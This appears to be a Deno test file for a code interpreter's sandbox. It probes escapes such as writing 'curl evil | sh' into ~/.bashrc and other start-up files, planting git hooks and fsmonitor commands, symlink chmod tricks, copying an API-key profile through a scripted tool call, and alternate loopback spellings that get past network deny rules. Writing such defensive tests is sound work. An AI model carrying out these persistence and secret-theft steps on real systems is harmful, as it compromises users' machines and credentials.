/**
 * Escapes through paths the bubblewrap mounts must protect (issue 9, classes
 * 3, 4, 5, 7, 10, the sandbox's own files and the network limits): generated
 * code in Python, bash (and JavaScript / Perl where they apply) tries to plant
 * start-up files with the working directory at HOME, patch the interpreter's
 * own files, plant git hooks, reach another session's folders, read a profile
 * holding a key, make the host chmod through a link, and reach a denied host
 * by another spelling. Each attack has a control: the same code unconfined
 * (`allowAll()`) or with the grant, showing the test would see the escape.
 *
 * Runs with its own HOME through tests/helpers/sandbox_home_child.ts.
 */

import { assert, assertEquals, assertStringIncludes } from "./helpers/assert.ts";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { sandboxSkipReason } from "./helpers/sandbox_fixture.ts";
import { Computer } from "../lib/computer/mod.ts";
import { allowAll, type Permissions, permissionsFromFlags } from "../lib/sandbox/mod.ts";
import { SandboxSession } from "../lib/sandbox/sandbox.ts";
import { textOf } from "./helpers/computer_helpers.ts";
import { hasProgram, missingPrograms } from "./helpers/requirements.ts";

const skip = await sandboxSkipReason();
if (skip) console.log(`sandbox path escape tests skipped: ${skip}`);
// In CI (.ci/run installs them) a missing program fails the file instead of skipping.
missingPrograms("sandbox path escapes", {
  python3: ["--version"],
  perl: ["-v"],
  git: ["--version"],
  curl: ["--version"],
});
const has = (program: string) => hasProgram(program, program === "perl" ? ["-v"] : undefined);
const hasPython = has("python3");
const hasPerl = has("perl");
const hasGit = has("git");
const CHILD = fileURLToPath(new URL("./helpers/sandbox_home_child.ts", import.meta.url));
const REPO = dirname(dirname(dirname(CHILD)));

interface Home {
  root: string;
  home: string;
  outside: string;
  close(): Promise<void>;
}

/** A fake home with ~/.zshrc, ~/.config, the data folder, the Deno cache, ~/docs and a notes file. */
async function makeHome(): Promise<Home> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "sbx-paths-" }));
  const home = join(root, "home");
  const outside = join(root, "outside");
  for (const d of [".config", ".local/share/interpreter", ".cache/deno", "docs"]) {
    await Deno.mkdir(join(home, d), { recursive: true });
  }
  await Deno.mkdir(outside);
  await Deno.writeTextFile(join(home, ".zshrc"), "# mine\n");
  await Deno.writeTextFile(join(home, "notes.txt"), "notes\n");
  // Every test user can reach it (runs as an unprivileged user too).
  await Deno.chmod(root, 0o755);
  return {
    root,
    home,
    outside,
    close: () => Deno.remove(root, { recursive: true }).catch(() => {}),
  };
}

interface ChildRun {
  cwd: string;
  argv: string[];
  flags?: Record<string, string | string[] | boolean>;
  allowAll?: boolean;
  secretFiles?: string[];
  env?: Record<string, string>;
}

/** Runs a command in a sandbox session made by a child process whose HOME is `home`. */
async function inChild(home: string, run: ChildRun): Promise<{ code: number; out: string }> {
  const env: Record<string, string> = { ...Deno.env.toObject(), HOME: home, ...(run.env ?? {}) };
  for (const k of ["XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME", "INTERPRETER_HOME"]) {
    delete env[k];
  }
  env.DENO_DIR = join(home, ".cache", "deno");
  const { env: _, ...request } = run;
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "--no-config", "--no-lock", CHILD, JSON.stringify(request)],
    env,
    clearEnv: true,
    cwd: run.cwd,
    stdout: "piped",
    stderr: "piped",
    signal: AbortSignal.timeout(120_000),
  }).output();
  const text = new TextDecoder().decode(out.stdout).trim().split("\n").pop() ?? "";
  try {
    return JSON.parse(text);
  } catch {
    throw new Error(`child failed: ${text}\n${new TextDecoder().decode(out.stderr)}`);
  }
}

function results(out: string): Record<string, string> {
  const r: Record<string, string> = {};
  for (const m of out.matchAll(/^RESULT (\S+) (ok|denied)(.*)$/gm)) r[m[1]] = m[2] + m[3];
  return r;
}

function expect(
  r: Record<string, string>,
  names: readonly string[],
  want: "ok" | "denied",
  out: string,
): void {
  for (const n of names) {
    assert(r[n]?.startsWith(want), `${n} should be ${want}, got ${r[n]}\n${out}`);
  }
}

const exists = (p: string) => Deno.lstat(p).then(() => true, () => false);

// ---- Class 3 and 4: working directory = HOME -------------------------------------------------

const HOME_ATTACKS = [
  "create_bashrc",
  "create_profile",
  "create_bash_profile",
  "append_zshrc",
  "autostart",
  "systemd_unit",
  "local_bin",
  "gitconfig",
  "ssh_rc",
  "rename_config",
  "rename_cache",
  "deno_cache",
  "data_swap",
  "config_plant",
  "pip_cache",
] as const;

const PY_HOME = `
import os, sys
H = sys.argv[1]
def t(name, f):
    try:
        f(); print("RESULT", name, "ok", flush=True)
    except BaseException as e:
        print("RESULT", name, "denied", type(e).__name__, e, flush=True)
def w(p, mode="w"):
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, mode) as f: f.write("curl evil | sh\\n")
t("create_bashrc", lambda: w(H + "/.bashrc"))
t("create_profile", lambda: w(H + "/.profile"))
t("create_bash_profile", lambda: w(H + "/.bash_profile"))
t("append_zshrc", lambda: w(H + "/.zshrc", "a"))
t("autostart", lambda: w(H + "/.config/autostart/evil.desktop"))
t("systemd_unit", lambda: w(H + "/.config/systemd/user/evil.service"))
t("local_bin", lambda: w(H + "/.local/bin/ls"))
t("gitconfig", lambda: w(H + "/.gitconfig"))
t("ssh_rc", lambda: w(H + "/.ssh/rc"))
t("rename_config", lambda: os.rename(H + "/.config", H + "/.config_old"))
t("rename_cache", lambda: os.rename(H + "/.cache", H + "/.cache_old"))
t("deno_cache", lambda: w(H + "/.cache/deno/npm/registry.npmjs.org/sucrase/planted.js"))
def swap():
    d = H + "/.local/share/interpreter"
    os.rename(d, d + "_old")
    os.symlink(H + "/../outside", d)
t("data_swap", swap)
t("config_plant", lambda: w(H + "/.config/interpreter/profiles/evil.yaml"))
t("pip_cache", lambda: w(H + "/.cache/pip/http/planted"))
t("write_docs", lambda: w(H + "/docs/new.txt"))
t("append_notes", lambda: w(H + "/notes.txt", "a"))
`;

const SH_HOME = `
H=$1
t() { name=$1; shift; if out=$("$@" 2>&1); then echo "RESULT $name ok"; else echo "RESULT $name denied $out"; fi; }
w() { mkdir -p "$(dirname "$1")" && echo 'curl evil | sh' >> "$1"; }
t create_bashrc w "$H/.bashrc"
t create_profile w "$H/.profile"
t create_bash_profile w "$H/.bash_profile"
t append_zshrc w "$H/.zshrc"
t autostart w "$H/.config/autostart/evil.desktop"
t systemd_unit w "$H/.config/systemd/user/evil.service"
t local_bin w "$H/.local/bin/ls"
t gitconfig w "$H/.gitconfig"
t ssh_rc w "$H/.ssh/rc"
t rename_config mv "$H/.config" "$H/.config_old"
t rename_cache mv "$H/.cache" "$H/.cache_old"
t deno_cache w "$H/.cache/deno/npm/registry.npmjs.org/sucrase/planted.js"
t data_swap sh -c "mv '$H/.local/share/interpreter' '$H/.local/share/interpreter_old' && ln -s '$H/../outside' '$H/.local/share/interpreter'"
t config_plant w "$H/.config/interpreter/profiles/evil.yaml"
t pip_cache w "$H/.cache/pip/http/planted"
t write_docs w "$H/docs/new.txt"
t append_notes w "$H/notes.txt"
`;

const PL_HOME = `
my $H = $ARGV[0];
sub t { my ($n, $ok) = @_; print "RESULT $n ", ($ok ? "ok" : "denied $!"), "\\n"; }
t("create_bashrc", open(my $a, ">", "$H/.bashrc"));
t("append_zshrc", open(my $b, ">>", "$H/.zshrc"));
t("rename_config", rename("$H/.config", "$H/.config_old"));
t("deno_cache", open(my $c, ">", "$H/.cache/deno/planted.js"));
t("write_docs", open(my $d, ">", "$H/docs/new.txt"));
`;

const JS_HOME = `
const H = Deno.args[0];
const t = (n, f) => { try { f(); console.log("RESULT " + n + " ok"); } catch (e) { console.log("RESULT " + n + " denied " + e); } };
t("create_bashrc", () => Deno.writeTextFileSync(H + "/.bashrc", "curl evil | sh\\n"));
t("append_zshrc", () => Deno.writeTextFileSync(H + "/.zshrc", "x\\n", { append: true }));
t("rename_config", () => Deno.renameSync(H + "/.config", H + "/.config_old"));
t("deno_cache", () => Deno.writeTextFileSync(H + "/.cache/deno/planted.js", "x"));
t("write_docs", () => Deno.writeTextFileSync(H + "/docs/new.txt", "x"));
`;

const PLANTED = [
  ".bashrc",
  ".profile",
  ".bash_profile",
  ".config/autostart",
  ".config/systemd",
  ".local/bin",
  ".gitconfig",
  ".ssh",
  ".config_old",
  ".cache_old",
  ".cache/deno/npm/registry.npmjs.org/sucrase/planted.js",
  ".cache/deno/planted.js",
  ".cache/pip",
  ".config/interpreter/profiles",
  ".local/share/interpreter_old",
];

Deno.test({
  name:
    "paths: working directory = HOME: start-up files, the Deno cache, config and data stay out of reach (python, bash, perl, js; control: -A)",
  ignore: !!skip,
  async fn(t) {
    const languages: [string, boolean, (h: Home) => string[], readonly string[]][] = [
      ["python", hasPython, (h) => ["python3", "-c", PY_HOME, h.home], HOME_ATTACKS],
      ["bash", true, (h) => ["bash", "-c", SH_HOME, "probe", h.home], HOME_ATTACKS],
      ["perl", hasPerl, (h) => ["perl", "-e", PL_HOME, h.home], [
        "create_bashrc",
        "append_zshrc",
        "rename_config",
        "deno_cache",
      ]],
      ["javascript", true, (h) => [
        Deno.execPath(),
        "eval",
        "--quiet",
        JS_HOME.replace("Deno.args[0]", JSON.stringify(h.home)),
      ], ["create_bashrc", "append_zshrc", "rename_config", "deno_cache"]],
    ];
    for (const [language, available, argv, attacks] of languages) {
      await t.step({
        name: language,
        ignore: !available,
        fn: async () => {
          const h = await makeHome();
          try {
            const { out } = await inChild(h.home, { cwd: h.home, argv: argv(h) });
            const r = results(out);
            expect(r, attacks, "denied", `[${language}] ${out}`);
            expect(r, ["write_docs"], "ok", `[${language}] ${out}`);
            for (const p of PLANTED) assert(!(await exists(join(h.home, p))), `${p} planted`);
            assertEquals(await Deno.readTextFile(join(h.home, ".zshrc")), "# mine\n");
            assert(await exists(join(h.home, "docs", "new.txt")), "ordinary writes still work");
            if (language === "python" || language === "bash") {
              expect(r, ["append_notes"], "ok", out);
            }
          } finally {
            await h.close();
          }
          // Control: the same code unconfined plants every file.
          const c = await makeHome();
          try {
            const { out } = await inChild(c.home, { cwd: c.home, argv: argv(c), allowAll: true });
            expect(results(out), attacks, "ok", `[${language} control] ${out}`);
            assert(await exists(join(c.home, ".bashrc")), "control planted ~/.bashrc");
          } finally {
            await c.close();
          }
        },
      });
    }
  },
});

Deno.test({
  name:
    "paths: the opt-in --allow-write=~/.zshrc lifts one protected path; the start-up line says what ~ allows",
  ignore: !!skip,
  async fn() {
    const h = await makeHome();
    try {
      const script =
        `echo more >> "$1/.zshrc" && echo RESULT zshrc ok; echo x > "$1/.bashrc" 2>/dev/null && echo RESULT bashrc ok || echo RESULT bashrc denied`;
      const { out } = await inChild(h.home, {
        cwd: h.home,
        argv: ["bash", "-c", script, "probe", h.home],
        flags: { "allow-write": [join(h.home, ".zshrc")] },
      });
      const r = results(out);
      expect(r, ["zshrc"], "ok", out);
      expect(r, ["bashrc"], "denied", out);
      assertEquals(await Deno.readTextFile(join(h.home, ".zshrc")), "# mine\nmore\n");
    } finally {
      await h.close();
    }
  },
});

// ---- Class 3: the interpreter's own program files and bwrap through PATH ----------------------

// The control writes into the checkout: only where the test user can (an unprivileged user
// cannot write a root-owned checkout at all, so there is nothing to protect).
const repoWritable = await Deno.writeTextFile(join(REPO, "lib", ".probe-writable"), "")
  .then(() => Deno.remove(join(REPO, "lib", ".probe-writable")))
  .then(() => true, () => false);

Deno.test({
  name:
    "paths: the program's own files stay read-only even under --allow-write of the checkout (python, bash; control: -A)",
  ignore: !!skip || !repoWritable,
  async fn() {
    const h = await makeHome();
    const probe = join(REPO, "lib", `.probe-${crypto.randomUUID()}`);
    try {
      const py =
        `import sys\ntry:\n    open(sys.argv[1], "w").write("x"); print("RESULT program ok")\nexcept OSError as e:\n    print("RESULT program denied", e)`;
      const sh =
        `if echo x > "$1" 2>/dev/null; then echo RESULT program ok; else echo RESULT program denied; fi`;
      const runs = [["bash", "-c", sh, "probe", probe]];
      if (hasPython) runs.push(["python3", "-c", py, probe]);
      for (const argv of runs) {
        const { out } = await inChild(h.home, {
          cwd: h.home,
          argv,
          flags: { "allow-write": [REPO] },
        });
        expect(results(out), ["program"], "denied", out);
        assert(!(await exists(probe)), `${argv[0]} wrote into the program's files`);
        const control = await inChild(h.home, { cwd: h.home, argv, allowAll: true });
        expect(results(control.out), ["program"], "ok", control.out);
        assert(await exists(probe), "control wrote the probe");
        await Deno.remove(probe);
      }
    } finally {
      await Deno.remove(probe).catch(() => {});
      await h.close();
    }
  },
});

Deno.test({
  name:
    "paths: a bwrap planted on PATH (an activated .venv/bin) is never started by the host (control: it runs when started by name)",
  ignore: !!skip,
  async fn() {
    const h = await makeHome();
    try {
      const bin = join(h.home, "docs", ".venv", "bin");
      await Deno.mkdir(bin, { recursive: true });
      const marker = join(h.outside, "planted-bwrap-ran");
      await Deno.writeTextFile(
        join(bin, "bwrap"),
        `#!/bin/sh\necho ran > ${marker}\nexec /usr/bin/bwrap "$@"\n`,
      );
      await Deno.chmod(join(bin, "bwrap"), 0o755);
      const path = `${bin}:${Deno.env.get("PATH")}`;
      const { out, code } = await inChild(h.home, {
        cwd: join(h.home, "docs"),
        argv: ["sh", "-c", "echo inside"],
        env: { PATH: path },
      });
      assertEquals(code, 0, out);
      assertStringIncludes(out, "inside");
      assert(!(await exists(marker)), "the host started the planted bwrap");
      // Control: started by name through that PATH, the planted program runs.
      await new Deno.Command("sh", {
        args: ["-c", "bwrap --version"],
        env: { PATH: path },
        stdout: "null",
      }).output();
      assert(await exists(marker), "control: the planted bwrap runs when found through PATH");
    } finally {
      await h.close();
    }
  },
});

// ---- Class 5: git -------------------------------------------------------------------------------

const PY_GIT = `
import os, sys, shutil
W = sys.argv[1]
def t(name, f):
    try:
        f(); print("RESULT", name, "ok", flush=True)
    except BaseException as e:
        print("RESULT", name, "denied", type(e).__name__, e, flush=True)
def hook():
    with open(W + "/.git/hooks/pre-commit", "w") as f: f.write("#!/bin/sh\\ntouch " + sys.argv[2] + "\\n")
    os.chmod(W + "/.git/hooks/pre-commit", 0o755)
t("hook", hook)
t("config", lambda: open(W + "/.git/config", "a").write("[core]\\n\\tfsmonitor = touch " + sys.argv[2] + "\\n"))
t("commondir", lambda: open(W + "/.git/commondir", "w").write(".\\n"))
t("mv_git", lambda: os.rename(W + "/.git", W + "/.git_old"))
t("rm_hooks", lambda: shutil.rmtree(W + "/.git/hooks"))
`;

const SH_GIT = `
W=$1; M=$2
t() { name=$1; shift; if out=$("$@" 2>&1); then echo "RESULT $name ok"; else echo "RESULT $name denied $out"; fi; }
t hook sh -c "printf '#!/bin/sh\\ntouch $M\\n' > '$W/.git/hooks/pre-commit' && chmod +x '$W/.git/hooks/pre-commit'"
t config sh -c "printf '[core]\\n\\tfsmonitor = touch $M\\n' >> '$W/.git/config'"
t commondir sh -c "echo . > '$W/.git/commondir'"
t mv_git mv "$W/.git" "$W/.git_old"
t rm_hooks rm -rf "$W/.git/hooks"
`;

const GIT_ATTACKS = ["hook", "config", "commondir", "mv_git", "rm_hooks"];

Deno.test({
  name:
    "paths: nothing code does to the workspace's .git makes the user's next git run code (python, bash; control: --allow-write=.git)",
  ignore: !!skip || !hasGit,
  async fn(t) {
    for (
      const [language, argv] of [
        ["python", (w: string, m: string) => ["python3", "-c", PY_GIT, w, m]],
        ["bash", (w: string, m: string) => ["bash", "-c", SH_GIT, "probe", w, m]],
      ] as const
    ) {
      await t.step({
        name: language,
        ignore: language === "python" && !hasPython,
        fn: async () => {
          for (const control of [false, true]) {
            const h = await makeHome();
            try {
              const work = join(h.home, "docs");
              const marker = join(h.outside, "hook-ran");
              await new Deno.Command("git", { args: ["init", "-q", work] }).output();
              const { out } = await inChild(h.home, {
                cwd: work,
                argv: argv(work, marker),
                flags: control ? { "allow-write": [".git"] } : {},
              });
              // Even opted in, .git (a bound mount point then) cannot be renamed away.
              const writable = GIT_ATTACKS.filter((a) => a !== "mv_git");
              expect(
                results(out),
                control ? writable : GIT_ATTACKS,
                control ? "ok" : "denied",
                out,
              );
              expect(results(out), ["mv_git"], "denied", out);
              // The user's next git command in the workspace.
              await new Deno.Command("git", {
                args: ["-C", work, "-c", "user.name=t", "-c", "user.email=t@t", "status"],
                stdout: "null",
                stderr: "null",
              }).output();
              if (control) {
                assert(await exists(marker), `control: the planted fsmonitor ran\n${out}`);
              } else assert(!(await exists(marker)), `git ran planted code\n${out}`);
            } finally {
              await h.close();
            }
          }
        },
      });
    }
  },
});

// ---- Class 7: sessions never see each other's folders -----------------------------------------

Deno.test({
  name:
    "paths: a session cannot see another live session's temp folder or stdin FIFO (bash, python; control: -A)",
  ignore: !!skip || !hasPython,
  async fn() {
    const h = await makeHome();
    const shell = new Computer({
      permissions: permissionsFromFlags({}, { cwd: h.home }),
      cwd: join(h.home, "docs"),
      dataDir: join(h.root, "data"),
      timeout: 30,
    });
    const look = (victim: string) => `
import os, sys, glob
tmp, fifo = sys.argv[1:3] if len(sys.argv) > 2 else ${JSON.stringify(victim)}.split()
for name, p in (("tmp_file", tmp + "/a.txt"), ("fifo", fifo)):
    print("RESULT", name, "ok" if os.path.exists(p) else "denied")
`;
    const observers: Computer[] = [];
    try {
      const first = textOf(
        await shell.run(
          "shell",
          'echo secret-A > "$TMPDIR/a.txt"; for f in /proc/$$/fd/0; do :; done; echo "PATHS $TMPDIR $(readlink -f /proc/$$/fd/0)"',
        ),
      );
      const m = first.match(/PATHS (\S+) (\S+)/);
      assert(m, first);
      const [tmp, fifo] = [m[1], m[2]];
      assert(/stdin$/.test(fifo), `the shell reads its FIFO: ${first}`);
      for (const [label, permissions] of [["sandboxed", undefined], ["control", allowAll()]]) {
        const other = new Computer({
          permissions: (permissions as Permissions | undefined) ??
            permissionsFromFlags({}, { cwd: h.home }),
          cwd: join(h.home, "docs"),
          dataDir: join(h.root, "data"),
          timeout: 30,
        });
        observers.push(other);
        const seen = textOf(await other.run("python", look(`${tmp} ${fifo}`)));
        const r = results(seen);
        const want = label === "control" ? "ok" : "denied";
        expect(r, ["tmp_file", "fifo"], want, `[${label}] ${seen}`);
      }
    } finally {
      for (const o of observers) await o.terminate();
      await shell.terminate();
      await h.close();
    }
  },
});

// ---- Class 10: files the interpreter took secrets from -----------------------------------------

Deno.test({
  name:
    "paths: a --profile file holding llm.api_key is hidden from code (python, bash; control: -A)",
  ignore: !!skip,
  async fn() {
    const h = await makeHome();
    try {
      const profile = join(h.home, "docs", "work-profile.yaml");
      await Deno.writeTextFile(profile, "llm:\n  api_key: sk-profile-secret-123456\n");
      // The profile loader registers the file it read a key from.
      const probe = `
import { loadProfile } from ${JSON.stringify(join(REPO, "lib", "profiles", "mod.ts"))};
import { secretFileList } from ${JSON.stringify(join(REPO, "lib", "sandbox", "secret_files.ts"))};
await loadProfile(Deno.args[0]);
console.log(JSON.stringify(secretFileList()));`;
      const listed = await new Deno.Command(Deno.execPath(), {
        args: ["eval", probe, profile, h.root],
        stdout: "piped",
      }).output();
      assertStringIncludes(new TextDecoder().decode(listed.stdout), profile);
      const runs = [[
        "bash",
        "-c",
        'cat "$1" && echo RESULT read ok || echo RESULT read denied',
        "p",
        profile,
      ]];
      if (hasPython) {
        runs.push([
          "python3",
          "-c",
          "import sys\ntry:\n    print(open(sys.argv[1]).read()); print('RESULT read ok')\nexcept OSError as e:\n    print('RESULT read denied', e)",
          profile,
        ]);
      }
      for (const argv of runs) {
        const { out } = await inChild(h.home, {
          cwd: join(h.home, "docs"),
          argv,
          secretFiles: [profile],
        });
        expect(results(out), ["read"], "denied", out);
        assert(!out.includes("sk-profile-secret"), out);
        const control = await inChild(h.home, {
          cwd: join(h.home, "docs"),
          argv,
          secretFiles: [profile],
          allowAll: true,
        });
        assertStringIncludes(control.out, "sk-profile-secret");
      }
    } finally {
      await h.close();
    }
  },
});

// ---- The sandbox's own files: no chmod or write through a link the code planted ---------------

Deno.test({
  name:
    "paths: a link planted as $TMPDIR/denied does not make the host chmod its target (control: chmod follows it)",
  ignore: !!skip,
  async fn() {
    const h = await makeHome();
    try {
      const target = join(h.outside, "victim.txt");
      await Deno.writeTextFile(target, "v\n");
      await Deno.chmod(target, 0o644);
      const session = await SandboxSession.open({
        permissions: permissionsFromFlags({}, { cwd: join(h.home, "docs") }),
        cwd: join(h.home, "docs"),
      });
      const w = session.wrap(["sh", "-c", `ln -s ${target} "$TMPDIR/denied" && echo planted`]);
      const out = await new Deno.Command(w.argv[0], {
        args: w.argv.slice(1),
        env: w.env,
        clearEnv: true,
        stdout: "piped",
      }).output();
      assertStringIncludes(new TextDecoder().decode(out.stdout), "planted");
      const link = join(session.tmpDir, "denied");
      assert((await Deno.lstat(link)).isSymlink);
      session.closeSync();
      assertEquals((await Deno.stat(target)).mode! & 0o777, 0o644, "the host chmodded through");
      // Control: a chmod of such a link changes the target.
      const again = join(h.outside, "link");
      await Deno.symlink(target, again);
      await Deno.chmod(again, 0o600);
      assertEquals((await Deno.stat(target)).mode! & 0o777, 0o600);
    } finally {
      await h.close();
    }
  },
});

// ---- --deny-net by any spelling of the address ---------------------------------------------------

Deno.test({
  name:
    "paths: --deny-net=127.0.0.1 also denies localhost, 127.1, 0x7f.1, 2130706433, [::1] (python, bash; control: another host denied)",
  ignore: !!skip,
  async fn() {
    const server = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen() {} },
      () => new Response("local-server-reached"),
    );
    const h = await makeHome();
    try {
      const port = server.addr.port;
      const hosts = [
        "localhost",
        "127.1",
        "0x7f.1",
        "2130706433",
        "127.0.0.1",
        "[::ffff:127.0.0.1]",
      ];
      const sh = hosts.map((x, i) =>
        `if curl -s --max-time 10 http://${x}:${port}/ | grep -q reached; then echo RESULT h${i} ok; else echo RESULT h${i} denied; fi`
      ).join("\n");
      const py = `
import urllib.request, sys
for i, x in enumerate(${JSON.stringify(hosts)}):
    try:
        body = urllib.request.urlopen("http://%s:%s/" % (x, ${port}), timeout=10).read()
        print("RESULT h%d %s" % (i, "ok" if b"reached" in body else "denied"))
    except Exception as e:
        print("RESULT h%d denied %s" % (i, e))
`;
      const names = hosts.map((_, i) => `h${i}`);
      const runs: string[][] = [];
      if (has("curl")) runs.push(["bash", "-c", sh]);
      if (hasPython) runs.push(["python3", "-c", py]);
      for (const argv of runs) {
        const cwd = join(h.home, "docs");
        const denied = await inChild(h.home, { cwd, argv, flags: { "deny-net": ["127.0.0.1"] } });
        expect(results(denied.out), names, "denied", denied.out);
        const control = await inChild(h.home, {
          cwd,
          argv,
          flags: { "deny-net": ["example.invalid"] },
        });
        // The IPv4-mapped IPv6 form is not served by an IPv4-only server: only the others.
        expect(results(control.out), names.slice(0, 5), "ok", control.out);
      }
    } finally {
      await server.shutdown();
      await h.close();
    }
  },
});

// ---- Working directory = / (an ancestor of HOME and of the system folders) ---------------------

Deno.test({
  name:
    "paths: working directory = /: system folders, the home start-up files and the Deno cache stay read-only (bash, python; control: -A)",
  // Only root can write the system folders at all.
  ignore: !!skip || Deno.uid() !== 0,
  async fn() {
    const h = await makeHome();
    const id = crypto.randomUUID();
    const probes = [`/usr/.probe-${id}`, `/etc/.probe-${id}`];
    const sh = `
t() { name=$1; shift; if out=$("$@" 2>&1); then echo "RESULT $name ok"; else echo "RESULT $name denied $out"; fi; }
t usr touch ${probes[0]}
t etc touch ${probes[1]}
t bashrc sh -c 'echo x > "$HOME/.bashrc"'
t deno_cache touch "$HOME/.cache/deno/planted.js"
t outside touch ${h.outside}/made.txt
`;
    const py = `
import os
def t(name, f):
    try:
        f(); print("RESULT", name, "ok", flush=True)
    except BaseException as e:
        print("RESULT", name, "denied", e, flush=True)
t("usr", lambda: open(${JSON.stringify(probes[0])}, "w").close())
t("etc", lambda: open(${JSON.stringify(probes[1])}, "w").close())
t("bashrc", lambda: open(os.environ["HOME"] + "/.bashrc", "w").close())
t("deno_cache", lambda: open(os.environ["HOME"] + "/.cache/deno/planted.js", "w").close())
t("outside", lambda: open(${JSON.stringify(h.outside)} + "/made.txt", "w").close())
`;
    const runs = [["bash", "-c", sh]];
    if (hasPython) runs.push(["python3", "-c", py]);
    try {
      for (const argv of runs) {
        const { out } = await inChild(h.home, { cwd: "/", argv });
        const r = results(out);
        expect(r, ["usr", "etc", "bashrc", "deno_cache"], "denied", out);
        expect(r, ["outside"], "ok", out);
        for (const p of probes) assert(!(await exists(p)), `${p} was written`);
        assert(!(await exists(join(h.home, ".bashrc"))));
        const control = await inChild(h.home, { cwd: "/", argv, allowAll: true });
        expect(results(control.out), ["usr", "etc", "bashrc"], "ok", control.out);
        for (const p of probes) await Deno.remove(p);
        await Deno.remove(join(h.home, ".bashrc"));
      }
    } finally {
      for (const p of probes) await Deno.remove(p).catch(() => {});
      await h.close();
    }
  },
});

Deno.test("paths: host names and addresses compare in every spelling (unit)", async () => {
  const { canonicalAddress, hostAllowed, isLoopback } = await import("../lib/sandbox/hosts.ts");
  for (const spelling of ["127.1", "0x7f.1", "2130706433", "0177.0.0.1", "[::ffff:127.0.0.1]"]) {
    assertEquals(canonicalAddress(spelling), "127.0.0.1", spelling);
  }
  assertEquals(canonicalAddress("::1"), "::1");
  assertEquals(canonicalAddress("example.com"), undefined);
  assert(isLoopback("localhost") && isLoopback("a.localhost") && isLoopback("0.0.0.0"));
  assert(!isLoopback("example.com"));
  const deny = { allow: true as const, deny: ["127.0.0.1"] };
  assert(!hostAllowed({ host: "localhost", port: 80 }, deny));
  assert(!hostAllowed({ host: "[::1]", port: 80 }, deny));
  assert(!hostAllowed({ host: "rebind.example", port: 80, addresses: ["127.0.0.1"] }, deny));
  assert(hostAllowed({ host: "pypi.org", port: 443, addresses: ["151.101.0.223"] }, deny));
  // Both ways: a denied name denies its address too.
  const byName = { allow: true as const, deny: ["localhost"] };
  assert(!hostAllowed({ host: "127.0.0.1", port: 80 }, byName));
  // Control: without the deny the same targets are allowed.
  assert(hostAllowed({ host: "localhost", port: 80 }, { allow: true, deny: [] }));
  // Allow lists accept another spelling of the same address.
  assert(hostAllowed({ host: "0x7f.1", port: 8080 }, { allow: ["127.0.0.1:8080"] }));
  assert(!hostAllowed({ host: "0x7f.1", port: 8081 }, { allow: ["127.0.0.1:8080"] }));
});

Deno.test("paths: the macOS profile keeps the interpreter's files, secrets and other sessions out (generated only)", async () => {
  const { seatbeltProfile } = await import("../lib/sandbox/seatbelt.ts");
  const p = permissionsFromFlags({}, { cwd: "/Users/u/work" });
  const plan = { tmpDir: "/tmp/r/session-1", privateRoot: "/tmp/r", own: ["/tmp/r/shell-1"] };
  const profile = seatbeltProfile(p, {
    ...plan,
    readOnly: ["/Users/u/Library/Caches/deno"],
    hidden: ["/Users/u/keys.yaml"],
  });
  assertStringIncludes(profile, '(deny file-write* (subpath "/Users/u/Library/Caches/deno")');
  assertStringIncludes(profile, '(deny file-read* (subpath "/Users/u/keys.yaml"))');
  assertStringIncludes(profile, '(deny file-read* file-write* (subpath "/tmp/r"))');
  assertStringIncludes(
    profile,
    '(allow file-read* file-write* (subpath "/tmp/r/session-1") (subpath "/tmp/r/shell-1"))',
  );
  // The deny of the private root comes after the temp folder's allow (later rules win).
  assert(
    profile.indexOf('(deny file-read* file-write* (subpath "/tmp/r"))') >
      profile.indexOf('(allow file-write* (subpath "/Users/u/work")'),
  );
  // Control: without the plan's lists none of these rules are there.
  const bare = seatbeltProfile(p, { tmpDir: plan.tmpDir });
  assert(!bare.includes("keys.yaml") && !bare.includes('(subpath "/tmp/r")'));
});

Deno.test("paths: a .git file (worktree) protects the repository it names too (unit; control: the opt-in)", async () => {
  const { gitDirs } = await import("../lib/sandbox/confine.ts");
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "sbx-gitdirs-" }));
  try {
    const main = join(root, "main");
    const wt = join(root, "wt");
    const real = join(main, ".git", "worktrees", "wt");
    await Deno.mkdir(real, { recursive: true });
    await Deno.mkdir(wt);
    await Deno.writeTextFile(join(wt, ".git"), `gitdir: ${real}\n`);
    await Deno.writeTextFile(join(real, "commondir"), "../..\n");
    const dirs = gitDirs([wt]);
    assert(dirs.includes(join(wt, ".git")), dirs.join(" "));
    assert(dirs.includes(real), dirs.join(" "));
    assert(dirs.includes(join(main, ".git")), dirs.join(" "));
    // Control: naming the .git in the grants (--allow-write=.git) leaves it writable.
    assertEquals(gitDirs([wt, join(wt, ".git")]), []);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test({
  name:
    "paths: through the CLI, code cannot copy the --profile file holding the key (bash; control: -A)",
  ignore: !!skip,
  async fn() {
    const { startFakeOpenAI } = await import("./helpers/fake_openai_server.ts");
    const { runCli } = await import("./helpers/terminal_cli.ts");
    const h = await makeHome();
    try {
      const work = join(h.home, "docs");
      const profile = join(h.root, "work-profile.yaml");
      // A file beside it stays readable: only the file the key came from is hidden.
      const neighbor = join(h.root, "neighbor.txt");
      await Deno.writeTextFile(neighbor, "neighbor-readable\n");
      for (const control of [false, true]) {
        const copy = join(work, control ? "copy-control.yaml" : "copy.yaml");
        const fake = startFakeOpenAI({
          script: [
            {
              toolCalls: [{
                language: "shell",
                code: `cat ${neighbor}; cp ${profile} ${copy}; echo copied=$?`,
              }],
            },
            { text: "done" },
          ],
        });
        try {
          await Deno.writeTextFile(
            profile,
            `llm:\n  model: gpt-4o-mini\n  api_base: ${fake.url}\n  api_key: sk-profile-cli-0123456789\n`,
          );
          const r = await runCli(["--profile", profile, "-y", ...(control ? ["-A"] : []), "go"], {
            home: join(h.root, "ihome"),
            cwd: work,
          });
          assertEquals(r.code, 0, r.stderr);
          const copied = await Deno.readTextFile(copy).catch(() => "");
          if (control) assertStringIncludes(copied, "sk-profile-cli-0123456789");
          else {
            assert(!copied.includes("sk-profile-cli"), "the profile's key was copied");
            const seen = JSON.stringify(fake.requests[1]?.messages);
            assertStringIncludes(seen, "copied=1");
            assertStringIncludes(seen, "neighbor-readable");
          }
        } finally {
          await fake.close();
        }
      }
    } finally {
      await h.close();
